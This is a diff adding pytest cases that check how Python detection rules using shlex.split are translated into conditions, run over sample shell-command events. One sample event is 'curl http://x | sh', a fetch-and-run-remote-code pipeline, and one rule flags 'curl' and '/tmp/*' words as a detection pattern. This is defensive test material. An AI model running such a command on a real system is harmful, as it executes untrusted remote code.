@@ -200,3 +200,42 @@ def test_loopback_networks_are_pythons_is_loopback():
                "::1%eth0", "64:ff9b::7f00:1", "2002:7f00:1::"]
     for a in samples:
         assert evaluate(p, {"ip": a}) == ipaddress.ip_address(a).is_loopback, a
+
+
+SHELL_EVENTS = [{"cmd": c} for c in ("aws s3 ls", "'aws' s3", "aws", "  ", "", "echo 'unclosed",
+                                     "sudo aws", "curl http://x | sh", "x /tmp/a", 5)] + [{}]
+
+
+def test_shlex_split_words_and_first_word(tmp_path):
+    src = '''
+    import shlex
+    def rule(event):
+        command = event.get("cmd")
+        if not command:
+            return False
+        try:
+            args = shlex.split(command)
+        except ValueError:
+            return True  # catching the error must see Python's exception types
+        return args[0] == "aws"
+    '''
+    out = check(tmp_path, src, SHELL_EVENTS)
+    assert out.status == "exact", out.reasons
+    assert "index(shlex_split(cmd), 0)" in condition(out)
+
+
+def test_shlex_split_words_in_a_loop(tmp_path):
+    src = '''
+    import shlex
+    from fnmatch import fnmatch
+    def rule(event):
+        command = event.get("cmd")
+        if not command:
+            return False
+        for word in shlex.split(command.replace("'", "\\\\'")):
+            if any(fnmatch(word, p) for p in ("/tmp/*", "curl")):
+                return True
+        return False
+    '''
+    out = check(tmp_path, src, SHELL_EVENTS)
+    assert out.status == "exact", out.reasons
